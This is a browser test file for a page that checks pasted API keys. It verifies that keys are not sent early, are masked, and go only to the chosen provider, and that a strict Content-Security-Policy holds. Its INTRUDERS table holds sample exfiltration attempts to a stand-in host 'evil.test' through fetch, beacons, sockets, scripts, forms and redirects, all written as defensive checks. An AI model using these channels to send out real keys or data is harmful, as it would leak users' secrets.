// What keeps a key where it belongs: nothing leaves before Check, nobody is tried who was not chosen, and the
// policy holds even for code that has got into the page.

import assert from 'node:assert/strict';
import { rig } from './lib/browser.mjs';
import { Latchkey, makeKey, providers, words } from './lib/latchkey.mjs';

const promise = rig({ catalogue: providers });

const everyKind = (world) =>
  providers().flatMap((p) => p.kinds.filter((k) => k.example).map((k) => makeKey(world, p.provider, { kind: k.id })));

promise('nothing leaves on typing, not even for a file of the page', async (it) => {
  const latchkey = await new Latchkey(it).open();
  const { line } = makeKey(it.world, 'openai');
  assert.ok(!it.world.siteRequests.some(({ url }) => /checks-/.test(url)), 'what checking needs is not fetched before anyone comes to the box');
  // Coming to the box fetches it, whatever is typed then.
  await latchkey.box.focus();
  await it.page.waitForFunction(() => performance.getEntriesByType('resource').filter((r) => /\/(checks|checking)-/.test(r.name) && r.responseEnd).length === 2);
  const files = it.world.siteRequests.length;
  await latchkey.box.pressSequentially(`OPENAI_API_KEY=${line}`);
  await latchkey.count(1);
  await it.page.waitForTimeout(500);
  assert.deepEqual(it.world.requests, []);
  assert.equal(it.world.siteRequests.length, files);
});

promise('nothing leaves on pasting one key of every kind', async (it) => {
  const latchkey = await new Latchkey(it).open();
  await latchkey.put(everyKind(it.world).map((k) => k.line).join('\n'));
  await latchkey.rows.first().waitFor();
  await it.page.waitForTimeout(500);
  assert.deepEqual(it.world.requests, []);
});

promise('a mask is shown, and no more of a key than that', async (it) => {
  const latchkey = await new Latchkey(it).open();
  const { key, line } = makeKey(it.world, 'openai');
  await latchkey.put(line, 1);
  assert.ok((await latchkey.rows.innerText()).includes(key.slice(-4)), 'the last four characters tell keys apart');
});

promise('a key that fits two providers is sent to none before the choice', async (it) => {
  const latchkey = await new Latchkey(it).open();
  // `sk-` and 32 hex digits: DashScope's and Baichuan's keys look so, and DeepSeek's may.
  const undecided = makeKey(it.world, 'deepseek', { example: ['dashscope', 'api'] });
  await latchkey.put(undecided.key, 1);
  const [row] = await latchkey.read();
  assert.ok(row.provider.split(' ').includes('deepseek') && row.provider.includes(' '), row.provider);
  assert.equal(row.provider.split(' ').length, row.kind.split(' ').length);

  if (await latchkey.start.isEnabled()) {
    await latchkey.start.click();
    assert.equal(words((await latchkey.settled())[0]), 'unknown not-sent');
  }
  await it.page.waitForTimeout(300);
  assert.deepEqual(it.world.requests, [], 'not even a preflight');

  const choice = latchkey.rows.getByRole('combobox', { name: 'Provider' });
  const option = choice.locator('option', { hasText: undecided.provider.name }).first();
  await choice.selectOption(await option.getAttribute('value'));
  await it.page.waitForFunction((id) => document.querySelector('[data-finding]').dataset.provider === id, undecided.provider.provider);
  await latchkey.start.click();
  await it.page.waitForFunction(() => document.querySelector('[data-finding]').dataset.state === 'live');
  const hosts = new Set(it.world.keyed.map((r) => r.provider));
  assert.deepEqual([...hosts], [undecided.provider.provider]);
});

promise('a name beside a key that fits two providers decides', async (it) => {
  const latchkey = await new Latchkey(it).open();
  const { line } = makeKey(it.world, 'deepseek');
  await latchkey.put(line, 1);
  assert.equal((await latchkey.read())[0].provider, 'deepseek');
});

promise('a panic with a key in the box prints no part of it, and keeps the box', async (it) => {
  it.watch.permit('exceptions', 'errors');
  const latchkey = await new Latchkey(it).open();
  const { line } = makeKey(it.world, 'openai');
  await latchkey.put(line, 1);
  await it.page.evaluate(() => window.dispatchEvent(new Event('latchkey:panic')));
  const alert = it.page.getByRole('alert').filter({ hasText: 'stopped working' });
  await alert.waitFor();
  assert.match(await alert.innerText(), /wasm-function\[\d+\]:0x[0-9a-f]+/, 'the place in the program is told');
  assert.equal(await latchkey.box.inputValue(), line);
});

// ---- the policy ----

promise('the policy admits the catalogue’s exact addresses and nothing wider', async (it) => {
  await new Latchkey(it).open();
  const policy = await it.page.locator('meta[http-equiv="Content-Security-Policy" i]').first().getAttribute('content');
  const rules = Object.fromEntries(policy.split(';').map((rule) => rule.trim().split(/\s+/)).filter((r) => r[0]).map(([name, ...values]) => [name, values]));
  assert.deepEqual(rules['default-src'], ["'none'"]);
  for (const name of ['form-action', 'base-uri', 'object-src', 'frame-src']) assert.deepEqual(rules[name], ["'none'"], name);
  const planned = new Set(providers().flatMap((p) => p.policy));
  assert.deepEqual([...rules['connect-src']].sort(), [...planned, "'self'"].sort());
  for (const source of rules['script-src']) assert.match(source, /^'(sha(256|384|512)-[\w+/=]+|wasm-unsafe-eval)'$/);
  assert.ok(!/unsafe-inline|unsafe-eval(?<!wasm-unsafe-eval)|unsafe-hashes|strict-dynamic/.test(policy));
  const first = await it.page.evaluate(() => document.head.firstElementChild.outerHTML.slice(0, 60));
  assert.match(first, /Content-Security-Policy/i, 'it is the first element of the head');
});

// Each runs in the page, as code that has got in would, and says whether it was stopped.
const INTRUDERS = {
  'another path of an allowed host': () => fetch('https://api.openai.com/v1/files', { method: 'POST', body: 'x' }).then(() => 'got out', () => 'stopped'),
  'a path below an allowed one': () => fetch('https://api.openai.com/v1/models/x').then(() => 'got out', () => 'stopped'),
  'the root of an allowed host': () => fetch('https://api.openai.com/').then(() => 'got out', () => 'stopped'),
  'an allowed host by another scheme': () => fetch('http://api.openai.com/v1/models').then(() => 'got out', () => 'stopped'),
  'an allowed host at another port': () => fetch('https://api.openai.com:8443/v1/models').then(() => 'got out', () => 'stopped'),
  'another host': () => fetch('https://evil.test/', { mode: 'no-cors' }).then(() => 'got out', () => 'stopped'),
  'another host by XMLHttpRequest': () => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onerror = () => done('stopped');
    request.onload = () => done('got out');
    request.open('GET', 'https://evil.test/');
    request.send();
  }),
  'another host by EventSource': () => new Promise((done) => (new EventSource('https://evil.test/').onerror = () => done('stopped'))),
  'another host by WebSocket': () => new Promise((done) => {
    try {
      const socket = new WebSocket('wss://evil.test/');
      socket.onerror = () => done('stopped');
      socket.onopen = () => done('got out');
    } catch {
      done('stopped');
    }
  }),
  'another socket of an allowed host': () => new Promise((done) => {
    try {
      const socket = new WebSocket('wss://api.openai.com/v1/other');
      socket.onerror = () => done('stopped');
      socket.onopen = () => done('got out');
    } catch {
      done('stopped');
    }
  }),
  'a beacon': () => (navigator.sendBeacon('https://evil.test/', 'x'), 'stopped'),
  'a beacon to an allowed host': () => (navigator.sendBeacon('https://api.openai.com/v1/files', 'x'), 'stopped'),
  'a picture': () => new Promise((done) => Object.assign(new Image(), { onerror: () => done('stopped'), onload: () => done('got out'), src: 'https://evil.test/p.png' })),
  'a style sheet': () => new Promise((done) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.test/s.css', onerror: () => done('stopped'), onload: () => done('got out') });
    document.head.append(link);
  }),
  'a prefetch': () => new Promise((done) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://evil.test/', onerror: () => done('stopped'), onload: () => done('got out') }));
    setTimeout(done, 500, 'stopped');
  }),
  'a script from elsewhere': () => new Promise((done) => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.test/e.js', onerror: () => done('stopped'), onload: () => done('got out') }))),
  'a script of the same site': () => new Promise((done) => document.head.append(Object.assign(document.createElement('script'), { src: '/sub/neighbour.js', onerror: () => done('stopped'), onload: () => done('got out') }))),
  'a script in the document': () => {
    document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }));
    return window.ran ? 'got out' : 'stopped';
  },
  'a handler in an attribute': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.ran = true');
    document.body.append(button);
    button.click();
    button.remove();
    return window.ran ? 'got out' : 'stopped';
  },
  'text as code': () => new Promise((done) => setTimeout(() => {
    try {
      done(new Function('return "got out"')());
    } catch {
      done('stopped');
    }
  })),
  'a worker from a file': () => new Promise((done) => {
    try {
      const worker = new Worker('/sub/neighbour.js');
      worker.onerror = () => done('stopped');
      worker.onmessage = () => done('got out');
    } catch {
      done('stopped');
    }
  }),
  'a worker from text': () => new Promise((done) => {
    try {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onerror = () => done('stopped');
      worker.onmessage = () => done('got out');
    } catch {
      done('stopped');
    }
  }),
  'a shared worker': () => new Promise((done) => {
    try {
      const worker = new SharedWorker('/sub/neighbour.js');
      worker.onerror = () => done('stopped');
      setTimeout(done, 500, 'stopped');
    } catch {
      done('stopped');
    }
  }),
  'a service worker of a neighbour': () => navigator.serviceWorker.register('/sub/neighbour.js').then(() => 'got out', () => 'stopped'),
  // Of an allowed host, since Chromium (156) opens a connection before it asks the policy: a stranger would learn
  // its own name and the visitor's address. No request follows.
  'a frame': () => new Promise((done) => {
    const frame = Object.assign(document.createElement('iframe'), { src: 'https://api.groq.com/v1/files?x' });
    document.body.append(frame);
    setTimeout(() => {
      frame.remove();
      done('stopped');
    }, 300);
  }),
  'a form': () => new Promise((done) => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/', method: 'post' });
    document.body.append(form);
    form.submit();
    setTimeout(() => {
      form.remove();
      done('stopped');
    }, 300);
  }),
  'an inline style': () => {
    const p = document.createElement('p');
    p.innerHTML = '<span style="color: rgb(1, 2, 3)">x</span>';
    document.body.append(p);
    const { color } = getComputedStyle(p.firstChild);
    p.remove();
    return color === 'rgb(1, 2, 3)' ? 'got out' : 'stopped';
  },
  'WebRTC': () => (typeof RTCPeerConnection === 'undefined' ? 'stopped' : 'got out'),
  'a link that leaves': () => new Promise((done) => {
    const link = Object.assign(document.createElement('a'), { href: 'https://evil.test/?x' });
    document.body.append(link);
    link.click();
    setTimeout(() => {
      link.remove();
      done('stopped');
    }, 300);
  }),
  'an address that leaves': () => new Promise((done) => {
    location.href = 'https://evil.test/?x';
    setTimeout(done, 300, 'stopped');
  }),
};

promise('code that has got into the page reaches no other path, host, worker, frame or script', async (it) => {
  it.watch.permit('policy', 'errors', 'windows', 'exceptions');
  it.world.route('/sub/neighbour.js', 'window.ran = true; self.postMessage?.(1)', { 'content-type': 'text/javascript' });
  await new Latchkey(it).open();
  for (const [what, intruder] of Object.entries(INTRUDERS)) {
    const end = await it.page.evaluate(intruder).catch((error) => `left the page: ${error.message.slice(0, 80)}`);
    assert.equal(end, 'stopped', what);
    assert.deepEqual(it.world.strangers, [], what);
    assert.deepEqual(it.world.requests, [], what);
  }
  assert.equal(new URL(it.page.url()).origin, it.world.origin);
});

promise('what is sent carries neither cookie nor referrer, and is not kept', async (it) => {
  const latchkey = await new Latchkey(it).open();
  const { line, plan } = makeKey(it.world, 'groq');
  await it.context.addCookies([{ name: 'session', value: 'theirs', domain: new URL(plan.main.url).host, path: '/', secure: true, sameSite: 'None' }]);
  await latchkey.put(line, 1);
  assert.equal(words((await latchkey.check())[0]), 'live');
  const [sent] = it.world.keyed;
  assert.equal(sent.headers.cookie, undefined);
  assert.equal(sent.headers.referer, undefined);
  assert.equal(sent.headers['cache-control'], 'no-cache');
  await it.context.clearCookies();
});

promise('the wire log says what the server saw', async (it) => {
  const latchkey = await new Latchkey(it).open();
  const no = { status: 401, headers: [['content-type', 'application/json']], body: '{"error":{"code":"invalid_api_key","message":"no"}}' };
  const door = { events: ['{"type":"error","error":{"type":"invalid_request_error","code":"invalid_api_key","message":"no"}}'], close: [3000, 'invalid_request_error.invalid_api_key'] };
  const made = [makeKey(it.world, 'groq'), makeKey(it.world, 'anthropic'), makeKey(it.world, 'openai', { answer: no, door })];
  await latchkey.put(made.map((m) => m.line).join('\n'), made.length);
  await latchkey.check();
  const rows = (await latchkey.wire()).map((cells) => cells.join(' '));
  const seen = it.world.requests.filter((r) => !r.preflight);
  assert.equal(rows.length, seen.length, `the log:\n${rows.join('\n')}\nthe server:\n${seen.map((r) => `${r.method} ${r.url}`).join('\n')}`);
  for (const r of seen) {
    const { host, pathname } = new URL(r.url);
    assert.ok(rows.some((row) => row.includes(host) && row.includes(pathname)), `${host}${pathname} is in the log:\n${rows.join('\n')}`);
  }
});

// ---- where the page refuses to run ----

promise('without JavaScript a sentence says so', { javaScriptEnabled: false }, async (it) => {
  await it.page.goto(it.world.url);
  await it.page.getByText(/needs JavaScript/).waitFor();
  it.watch.crashed = true;
});

promise('inside a frame a sentence says so, and there is no box', async (it) => {
  it.watch.permit('windows');
  it.world.route('/other/', `<!doctype html><html lang="en"><title>outer</title><iframe title="inner" src="${it.world.url}"></iframe>`);
  await it.page.goto(`${it.world.origin}/other/`);
  const frame = it.page.frameLocator('iframe');
  await frame.getByText(/does not run inside another page/).waitFor();
  assert.equal(await frame.getByRole('textbox').count(), 0);
});

promise('a browser that is too old is told which are not', async (it) => {
  await it.page.addInitScript(() => delete window.WebAssembly);
  await it.page.goto(it.world.url);
  await it.page.getByText(/too old .*The oldest that work/).waitFor();
});

promise('a program that does not arrive is told, and the box is kept', async (it) => {
  it.watch.permit('errors', 'exceptions');
  await it.context.route(/\.wasm$/, (route) => route.abort());
  await it.page.goto(it.world.url);
  const box = it.page.locator('#paste');
  await box.fill('kept');
  await it.page.getByRole('alert').filter({ hasText: /could not start/ }).waitFor();
  assert.equal(await box.inputValue(), 'kept');
});

promise('a program that was changed on its way does not run', async (it) => {
  it.watch.permit('errors', 'exceptions');
  await it.context.route(/\.wasm$/, async (route) => {
    const answer = await route.fetch();
    const body = await answer.body();
    body[body.length - 1] ^= 1;
    await route.fulfill({ response: answer, body });
  });
  await it.page.goto(it.world.url);
  await it.page.getByRole('alert').filter({ hasText: /could not start/ }).waitFor();
});

promise('every key of the catalogue is recognised for what it is', async (it) => {
  const latchkey = await new Latchkey(it).open();
  // As many at a time as are all in the document; a blank line keeps neighbours apart.
  const all = everyKind(it.world);
  for (let from = 0; from < all.length; from += 150) {
    const made = all.slice(from, from + 150);
    await latchkey.put('', 0);
    await latchkey.put(made.map((m) => m.line).join('\n\n'), made.length);
    assert.deepEqual((await latchkey.read()).map((r) => `${r.provider} ${r.kind}`), made.map((m) => `${m.provider.provider} ${m.kind.id}`));
  }
});
